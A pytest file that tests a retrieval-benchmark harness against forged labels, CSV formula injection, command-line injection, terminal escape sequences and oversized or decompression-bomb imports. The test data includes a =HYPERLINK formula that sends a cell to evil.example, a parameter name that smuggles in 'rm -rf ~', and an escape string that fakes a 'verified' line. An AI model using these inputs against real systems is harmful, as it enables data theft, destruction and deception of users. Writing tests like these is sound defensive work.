"""Issue 43a: six more ways a file or a command could forge or garble what the board and the
terminal show, each tried on real runs (bm25 on ``diag/negation`` of the shared data, a tiny BEIR
folder for the folder and long-label cases) and each refused at its cause now:

1. impersonation: labels are NFKC-normalised and stripped; invisible or default-ignorable code
   points, empty labels and labels shaped like the board's disambiguated names are refused (at
   run and at import, where a label not in normal form is refused, not rewritten);
2. injection: measure names that do not parse and parameter names that are not identifiers are
   refused at import, CSV cells (headers too) that a spreadsheet would run are neutralised, the
   recomputing command line never holds a newline, and no message prints a file's escape sequence;
3. TREC export: bounded, never hidden, unique file names (``k<N>`` in them), the exact count of
   files written, and ids with white space refused before anything is written;
4. import bounds: decompressed size, line length and string lengths;
5. what ``export`` writes, ``verify`` accepts (rankings an import cut stay "cut"), a verified line
   carries the per-query values it was checked with, and a line without a headline figure fails;
6. training lists: an empty one fails, benchmark names are matched case-insensitively.
"""

from __future__ import annotations

import copy
import gzip
import json
import time
from pathlib import Path

import pytest

from harness.core.registry import MAX_LABEL_CHARS, ParamError, check_label, make_spec
from harness.store import exchange
from harness.store.exchange import CUT_KEY, ExchangeError, export_jsonl, read_export, read_export_file
from harness.store.provenance import run_command
from harness.store.results import IMPORTED, Store
from harness.types import Run
from tests.conftest import SHARED_DATA
from tests.factories import make_record, make_store
from tests.test_cli import invoke, make_beir

BENCH = "diag/negation"
ESC = "\x1b[2K\rverified"  # erase the line, go back to its start, print "verified"


def flat(text: str) -> str:
    return " ".join(text.split())


def rows_of(path: Path) -> list[dict]:
    return [json.loads(x) for x in path.read_text(encoding="utf-8").splitlines() if x.strip()]


def write_rows(path: Path, rows: list[dict]) -> Path:
    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    return path


def results_in(home: Path) -> list:
    path = home / "results.sqlite"
    if not path.exists():
        return []
    with Store(path) as store:
        return store.results(full=True)


class Negation:
    """bm25 on diag/negation at k = 10 and k = 20 (two results of one configuration), exported."""

    def __init__(self, root: Path):
        self.data = SHARED_DATA
        self.home = root / "home"
        for k in ("10", "20"):
            res = invoke("run", "bm25", "-b", BENCH, "--k", k, "--data-dir", str(self.data), "--home", str(self.home))
            assert res.exit_code == 0, res.output
        self.dump = root / "dump.jsonl"
        res = invoke("export", str(self.dump), "--home", str(self.home))
        assert res.exit_code == 0, res.output
        self.rows = rows_of(self.dump)
        assert [r.get("kind") for r in self.rows] == ["benchmark_content", None, None]

    def content(self) -> dict:
        return copy.deepcopy(self.rows[0])

    def result(self, k: int = 10) -> dict:
        return copy.deepcopy(next(r for r in self.rows[1:] if r["k"] == k))

    def file(self, path: Path, *results: dict, content: bool = True) -> Path:
        """A results file of ``results`` (the first result of k = 10 when none), after the content line."""
        return write_rows(path, ([self.content()] if content else []) + list(results or [self.result()]))

    def cli(self, verb: str, path: Path, *args: str):
        return invoke(verb, str(path), "--data-dir", str(self.data), *args)


@pytest.fixture(scope="module")
def negation(tmp_path_factory: pytest.TempPathFactory) -> Negation:
    if not SHARED_DATA.is_dir():
        pytest.skip(f"real benchmark data not found at {SHARED_DATA}")
    return Negation(tmp_path_factory.mktemp("negation"))


# -- 1. impersonation ----------------------------------------------------------------------------

INVISIBLE = ["\u034f", "\ufe0f", "\ufe00", "\U000e0100", "\u115f", "\u1160", "\u3164", "\uffa0", "\u180e",
             "\u200b", "\u00ad", "\u2060", "\u202e", "\ufeff", "\U000e0041"]


def test_labels_are_normalised_and_invisible_or_impersonating_ones_refused() -> None:
    assert check_label("\u00a0bm25 ") == "bm25"  # a no-break space is white space
    assert check_label("\uff42\uff4d\uff12\uff15") == "bm25"  # full-width letters and digits: NFKC
    assert check_label("bm25 (k1=0.5)") == "bm25 (k1=0.5)"
    assert check_label("x" * MAX_LABEL_CHARS) == "x" * MAX_LABEL_CHARS
    for c in INVISIBLE:
        for label in (f"bm{c}25", f"bm25{c}", c):
            with pytest.raises(ParamError, match=f"U\\+{ord(c):04X}"):
                check_label(label)
    for empty in ("", "   ", "\u00a0\u2003"):
        with pytest.raises(ParamError, match="empty"):
            check_label(empty)
    for shown_name in ("bm25 (9868ca)", "dense (mpnet) (0a1b2c)"):
        with pytest.raises(ParamError, match="how the board names one of two rows"):
            check_label(shown_name)
    with pytest.raises(ParamError, match="not in normal form"):
        check_label(" bm25", normal_form=True)
    with pytest.raises(ParamError, match="combining mark"):
        check_label("\u0301bm25")


def test_a_run_stores_the_normal_label_and_refuses_a_disambiguated_one(negation: Negation, tmp_path: Path) -> None:
    assert make_spec("bm25", label="\u00a0mine\u2003").label == "mine"
    with pytest.raises(ParamError):
        make_spec("bm25", label="bm25\u034f")
    label = "bm25 (9868ca)"
    home = tmp_path / "h"
    res = invoke("run", label, "-p", f"{label}.retriever=bm25", "-b", BENCH, "--data-dir", str(negation.data),
                 "--home", str(home))
    assert res.exit_code == 2 and "how the board names one of two rows" in flat(res.output), res.output
    assert results_in(home) == []


@pytest.mark.parametrize("label", [" bm25", "bm25\u00a0", "\uff42\uff4d\uff12\uff15", "bm\u034f25", "bm25\ufe0f",
                                   "\u3164", "bm25 (9868ca)"])
def test_import_refuses_a_label_that_is_not_in_normal_form_or_impersonates(negation: Negation, tmp_path: Path,
                                                                           label: str) -> None:
    row = negation.result()
    row["label"] = label
    path = negation.file(tmp_path / "labels.jsonl", row)
    home = tmp_path / "h"
    for verb in ("import", "verify"):
        res = negation.cli(verb, path, "--home", str(home))
        assert res.exit_code != 0, res.output
        assert "labels.jsonl:2: label:" in flat(res.output), res.output
        assert "nothing was imported" in flat(res.output)
    assert results_in(home) == []


# -- 2. injection --------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_a_measure_name_that_is_no_measure_is_refused_at_import(negation: Negation, tmp_path: Path) -> None:
    for where in ("measures", "per_query", "default_measures"):
        row = negation.result()
        if where == "measures":
            row["measures"][FORMULA] = dict(row["measures"]["nDCG@10"])
        elif where == "per_query":
            row["per_query"][FORMULA] = dict(row["per_query"]["nDCG@10"])
        else:
            row["benchmark_info"]["default_measures"].append(FORMULA)
        home = tmp_path / where
        res = negation.cli("import", negation.file(tmp_path / f"{where}.jsonl", row), "--home", str(home))
        assert res.exit_code != 0, res.output
        assert f"{where}.jsonl:2:" in flat(res.output) and "is not a measure name here" in flat(res.output), res.output
        assert results_in(home) == []


def test_csv_cells_and_headers_that_a_spreadsheet_would_run_are_neutralised() -> None:
    import csv
    import io

    from harness.cost.tables import to_csv

    text = to_csv([{FORMULA: "@SUM(A1)", "b": "+1", "c": "-x", "d": "\tx", "e": "\rx", "n": -0.5, "inf": float("-inf")}])
    header, row = list(csv.reader(io.StringIO(text, newline="")))
    assert header[0] == "'" + FORMULA and header[1:] == ["b", "c", "d", "e", "n", "inf"]
    assert row == ["'@SUM(A1)", "'+1", "'-x", "'\tx", "'\rx", "-0.5", "'-inf"]


def test_a_parameter_name_that_is_no_identifier_never_reaches_a_command_line(negation: Negation,
                                                                            tmp_path: Path) -> None:
    row = negation.result()
    row["spec"]["params"]["k1=9\nrm -rf ~ #"] = 1
    home = tmp_path / "h"
    res = negation.cli("import", negation.file(tmp_path / "params.jsonl", row), "--home", str(home))
    assert res.exit_code != 0 and "params.jsonl:2: spec['params']" in flat(res.output), res.output
    assert "is not an identifier" in flat(res.output) and results_in(home) == []
    # the command line a page and the ir_metadata show, from whatever a store holds
    spec = {"retriever": "bm25", "params": {"k1": 0.9, "a\nb": 1, "b": "x\ny", "c\r": 2, "": 3}}
    line = run_command(spec, f"{BENCH}\n", 0, 10)
    assert not any(c in line for c in "\n\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029"), line
    assert "-p bm25.k1=0.9" in line and "a\nb" not in line and "3 parameter(s) whose names are not identifiers" in line
    assert "\n" not in run_command({"retriever": "bm\n25", "params": {}}, ["x\ny", "z"], 0, 10)


def test_no_escape_sequence_of_a_file_reaches_the_terminal(negation: Negation, tmp_path: Path) -> None:
    # verify: a ranking of a query id that is no judged query is named, escaped
    row = negation.result()
    row["rankings"][ESC] = row["rankings"][next(iter(row["rankings"]))]
    res = negation.cli("verify", negation.file(tmp_path / "esc.jsonl", row))
    assert res.exit_code == 1, res.output
    assert "\x1b" not in res.output and "\r" not in res.output, repr(res.output)
    assert repr(ESC) in res.output  # shown by its escapes
    # import: a content line whose query differs from the local copy is named, escaped
    content = negation.content()
    content["queries"][0]["qid"] = ESC
    path = write_rows(tmp_path / "esc-content.jsonl", [content, negation.result()])
    res = negation.cli("import", path, "--home", str(tmp_path / "h"))
    assert res.exit_code != 0 and "differs from the local copy" in flat(res.output), res.output
    assert "\x1b" not in res.output and repr(ESC) in res.output, repr(res.output)
    # a benchmark name with an escape sequence, which cannot be loaded here
    row = negation.result()
    row["benchmark"] = row["benchmark_info"]["name"] = f"diag/{ESC}"
    res = negation.cli("verify", negation.file(tmp_path / "esc-bench.jsonl", row, content=False))
    assert res.exit_code == 1 and "\x1b" not in res.output, repr(res.output)
    res = negation.cli("import", tmp_path / "esc-bench.jsonl", "--home", str(tmp_path / "h2"))
    assert "\x1b" not in res.output, repr(res.output)


# -- 3. TREC export ------------------------------------------------------------------------------


def test_trec_files_of_one_configuration_at_two_depths_are_both_written(negation: Negation, tmp_path: Path) -> None:
    out = tmp_path / "trec"
    res = invoke("export", str(out), "--format", "trec", "--home", str(negation.home))
    assert res.exit_code == 0, res.output
    files = sorted(p.name for p in out.iterdir())
    assert len(files) == 4 and len(set(files)) == 4, files
    assert "exported 2 result(s): wrote 4 file(s)" in flat(res.output), res.output
    with Store(negation.home / "results.sqlite") as store:
        for rec in store.results(full=True):
            [run] = [p for p in out.glob(f"*__k{rec.k}__*.trec")]
            got = Run.from_trec(run)
            assert {q: [d for d, _ in r] for q, r in got.items()} == \
                {q: [d for d, _ in r] for q, r in rec.rankings.items()}


def test_trec_names_are_bounded_never_hidden_and_a_long_label_exports(tmp_path: Path) -> None:
    folder = make_beir(tmp_path / "tiny-med")
    home = tmp_path / "h"
    label = "L" * MAX_LABEL_CHARS
    res = invoke("run", label, "-p", f"{label}.retriever=bm25", "--benchmark", str(folder), "--k", "3",
                 "--home", str(home))
    assert res.exit_code == 0, res.output
    out = tmp_path / "trec"
    res = invoke("export", str(out), "--format", "trec", "--home", str(home))
    assert res.exit_code == 0, res.output
    names = sorted(p.name for p in out.iterdir())
    assert len(names) == 2 and "wrote 2 file(s)" in flat(res.output), (names, res.output)
    for n in names:
        assert not n.startswith((".", "-", "_")) and len(n.encode()) <= 200, n
    [run] = [p for p in out.iterdir() if p.suffix == ".trec"]
    assert set(Run.from_trec(run)) == set(results_in(home)[0].rankings)


def test_results_that_would_share_a_trec_name_get_their_own(tmp_path: Path) -> None:
    ranking = {"q1": [("d1", 2.0), ("d2", 1.0)]}
    own = make_record("bm25", benchmark=BENCH, rankings=ranking)
    imported = make_record("bm25", benchmark=BENCH, rankings=ranking, extra={"origin": {"kind": "import"}})
    other_version = make_record("bm25", benchmark=BENCH, benchmark_version="v2", rankings=ranking)
    store = make_store(tmp_path / "h", [own, imported, other_version])
    assert store.has(own.key) and store.has(imported.key, IMPORTED)
    from harness.record.runfiles import export_trec

    n, files = export_trec(store, tmp_path / "trec")
    assert n == 3 and len(files) == 6 and len({f.name for f in files}) == 6
    assert sorted(p.name for p in (tmp_path / "trec").iterdir()) == sorted(f.name for f in files)


def test_ids_with_white_space_refuse_the_trec_export_before_anything_is_written(tmp_path: Path) -> None:
    from harness.record.runfiles import TrecExportError, export_trec

    good = make_record("bm25", benchmark=BENCH, rankings={"q1": [("d1", 1.0)]})
    bad_q = make_record("dense", benchmark=BENCH, rankings={"q 1": [("d1", 1.0)]})
    bad_d = make_record("mmr", benchmark=BENCH, rankings={"q1": [("d\t1", 1.0)]})
    store = make_store(tmp_path / "h", [good, bad_q, bad_d])
    out = tmp_path / "trec"
    with pytest.raises(TrecExportError) as e:
        export_trec(store, out)
    msg = str(e.value)
    assert f"result {bad_q.key} (dense" in msg and "query id 'q 1'" in msg
    assert f"result {bad_d.key} (mmr" in msg and "document id 'd\\t1'" in msg
    assert good.key not in msg and "nothing was written" in msg
    assert not out.exists() or list(out.iterdir()) == []
    res = invoke("export", str(out), "--format", "trec", "--home", str(tmp_path / "h"))
    assert res.exit_code == 2 and "query id 'q 1'" in flat(res.output) and not list(out.glob("*")), res.output


# -- 4. import bounds ----------------------------------------------------------------------------


def test_an_import_is_bounded_in_size_line_length_and_text_length(negation: Negation, tmp_path: Path,
                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    good = negation.dump.read_bytes()
    # read in chunks, the lines (split across chunks) are the lines
    monkeypatch.setattr(exchange, "_READ_CHUNK", 7)
    a = read_export_file(str(negation.dump))
    b = read_export(negation.dump.read_text(encoding="utf-8").splitlines(), str(negation.dump))
    assert [(x.lineno, type(x)) for x in a] == [(x.lineno, type(x)) for x in b]
    monkeypatch.undo()
    # a gzip stream that decompresses past the limit
    bomb = tmp_path / "bomb.jsonl.gz"
    bomb.write_bytes(gzip.compress(good + b"\n" * 10_000))
    monkeypatch.setattr(exchange, "MAX_IMPORT_BYTES", len(good) + 1000)
    with pytest.raises(ExchangeError, match=r"bomb.jsonl.gz: larger than the limit of \d+ bytes \(decompressed\)"):
        read_export_file(str(bomb))
    res = invoke("import", str(bomb), "--home", str(tmp_path / "h"), "--data-dir", str(negation.data))
    assert res.exit_code == 2 and len(res.output.strip().splitlines()) == 1, res.output
    monkeypatch.undo()
    # a line longer than the limit
    monkeypatch.setattr(exchange, "MAX_LINE_BYTES", 1000)
    long = tmp_path / "long.jsonl"
    long.write_bytes(b"\n\n" + b'{"schema": 2, "x": "' + b"a" * 5000 + b'"}\n')
    with pytest.raises(ExchangeError, match="long.jsonl:3: the line is longer than the limit of 1000 bytes"):
        read_export_file(str(long))
    monkeypatch.undo()
    # an id or a text longer than its limit
    row = negation.result()
    row["rankings"]["q" * (exchange.MAX_ID_CHARS + 1)] = []
    with pytest.raises(ExchangeError, match=f"over the limit of {exchange.MAX_ID_CHARS} characters"):
        read_export_file(str(negation.file(tmp_path / "id.jsonl", row)))
    content = negation.content()
    content["queries"][0]["text"] = "t" * (exchange.MAX_TEXT_CHARS + 1)
    with pytest.raises(ExchangeError, match=f"id2.jsonl:1: queries\\[0\\]\\['text'\\]: .*over the limit of "
                                            f"{exchange.MAX_TEXT_CHARS} characters"):
        read_export_file(str(write_rows(tmp_path / "id2.jsonl", [content])))
    row = negation.result()
    row["extra"]["note"] = "n" * (exchange.MAX_TEXT_CHARS + 1)
    with pytest.raises(ExchangeError, match="over the limit"):
        read_export_file(str(negation.file(tmp_path / "extra.jsonl", row)))


def test_a_file_of_blank_lines_is_read_fast(tmp_path: Path) -> None:
    path = tmp_path / "blank.jsonl"
    n = 20_000_000
    with open(path, "wb") as f:
        f.write(b"\n" * n + b"  \r\n\t\n" + b"{broken\n")
    t = time.perf_counter()
    with pytest.raises(ExchangeError, match=f"blank.jsonl:{n + 3}: invalid JSON"):
        read_export_file(str(path))
    assert time.perf_counter() - t < 10


# -- 5. what export writes, verify accepts --------------------------------------------------------


def _cut_file(negation: Negation, tmp_path: Path, *, say_cut: bool) -> Path:
    """The k = 20 result exported with its rankings cut to 10 (as the reference bundle ships its
    rows), with or without the cut recorded."""
    with Store(negation.home / "results.sqlite") as store, open(tmp_path / "cut.jsonl", "w") as f:
        export_jsonl(store, f, depth=10)
    rows = [r for r in rows_of(tmp_path / "cut.jsonl") if r.get("k") != 10]
    assert rows[-1]["extra"][CUT_KEY] == 10 and max(len(r) for r in rows[-1]["rankings"].values()) == 10
    if not say_cut:
        del rows[-1]["extra"][CUT_KEY]
    return write_rows(tmp_path / "cut.jsonl", rows)


@pytest.mark.parametrize("say_cut", [True, False])
def test_an_export_of_imported_cut_rankings_verifies(negation: Negation, tmp_path: Path, say_cut: bool) -> None:
    cut = _cut_file(negation, tmp_path, say_cut=say_cut)
    store_home = tmp_path / "store"
    res = negation.cli("verify", cut, "--import", "--home", str(store_home))
    assert res.exit_code == 0, res.output
    again = tmp_path / "again.jsonl"
    assert invoke("export", str(again), "--home", str(store_home)).exit_code == 0
    [row] = [r for r in rows_of(again) if "kind" not in r]
    assert row["extra"][CUT_KEY] == 10  # not the run's k: the rankings it holds are whole to 10 only
    res = negation.cli("verify", again)
    assert res.exit_code == 0 and "all 1 result(s) verified" in res.output, res.output
    assert "not recomputable: R@100: cutoff 100 is deeper than the longest submitted ranking (10)" in flat(res.output)


def test_a_verified_line_carries_the_per_query_values_it_was_checked_with(negation: Negation, tmp_path: Path) -> None:
    row = negation.result()
    original = row["per_query"].pop("nDCG@10")
    home = tmp_path / "h"
    res = negation.cli("verify", negation.file(tmp_path / "bare.jsonl", row), "--import", "--home", str(home))
    assert res.exit_code == 0, res.output
    [rec] = results_in(home)
    assert rec.per_query["nDCG@10"] == pytest.approx(original, abs=1e-12)


def test_a_line_without_a_headline_figure_verifies_only_what_it_carries(negation: Negation, tmp_path: Path) -> None:
    """A line that carries V@2 alone verifies V@2 and nothing else: verify checks figures, and it is
    the board that never ranks a row without its table's headline figure (tests/test_forgery_43d.py)."""
    row = negation.result()
    row["measures"] = {"V@2": row["measures"]["V@2"]}
    row["per_query"] = {"V@2": row["per_query"]["V@2"]}
    home = tmp_path / "h"
    res = negation.cli("verify", negation.file(tmp_path / "only.jsonl", row), "--import", "--home", str(home))
    assert res.exit_code == 0, res.output
    [rec] = results_in(home)
    assert rec.extra["origin"]["verified"]["measures"] == ["V@2"] and set(rec.measures) == {"V@2"}


def test_the_shipped_bundle_and_an_own_run_export_and_verify(negation: Negation, tmp_path: Path,
                                                             with_reference) -> None:
    """The reference rows (imported: their rankings are cut at 10) and one own bm25 run, exported:
    every line verifies (figures deeper than the rankings, and NevIR's PairAcc where its pair
    documents are not ranked, are listed as not recomputable)."""
    from harness.registry import reference_files

    bundle = reference_files().get("bundle")
    if bundle is None or not Path(bundle).exists():
        pytest.skip("no shipped reference bundle")
    home = tmp_path / "h"
    res = invoke("reference", "import", "--home", str(home), "--data-dir", str(negation.data))
    assert res.exit_code == 0, res.output
    res = invoke("run", "bm25", "-b", BENCH, "--data-dir", str(negation.data), "--home", str(home))
    assert res.exit_code == 0, res.output
    dump = tmp_path / "all.jsonl"
    res = invoke("export", str(dump), "--home", str(home))
    assert res.exit_code == 0, res.output
    n = sum("kind" not in r for r in rows_of(dump))
    res = negation.cli("verify", dump)
    assert res.exit_code == 0 and f"all {n} result(s) verified" in res.output, res.output[-3000:]


# -- 6. training lists ---------------------------------------------------------------------------


def test_a_training_list_must_not_be_empty_and_names_match_whatever_their_case(negation: Negation,
                                                                              tmp_path: Path) -> None:
    from harness.registry import load_benchmark

    antonym = load_benchmark("diag/antonym", negation.data)
    row = negation.result()

    def verify(training) -> str:
        r = copy.deepcopy(row)
        r["extra"]["training"] = training
        res = negation.cli("verify", negation.file(tmp_path / "trained.jsonl", r))
        return res.output if res.exit_code else ""

    assert verify([{"benchmark": antonym.name, "benchmark_version": antonym.version}]) == ""  # disjoint: verifies
    assert "extra.training is an empty list" in flat(verify([]))
    # the scored split under another spelling, at any version
    out = flat(verify([{"benchmark": BENCH.upper(), "benchmark_version": "0" * 16}]))
    assert "extra.training[0]: trained on DIAG/NEGATION version " + "0" * 16 + ", the split it is scored on" in out
    # a mis-cased name of another benchmark is that benchmark: its version is checked
    out = flat(verify([{"benchmark": "Diag/Antonym", "benchmark_version": "0" * 16}]))
    assert f"but {antonym.name} here is version {antonym.version}" in out
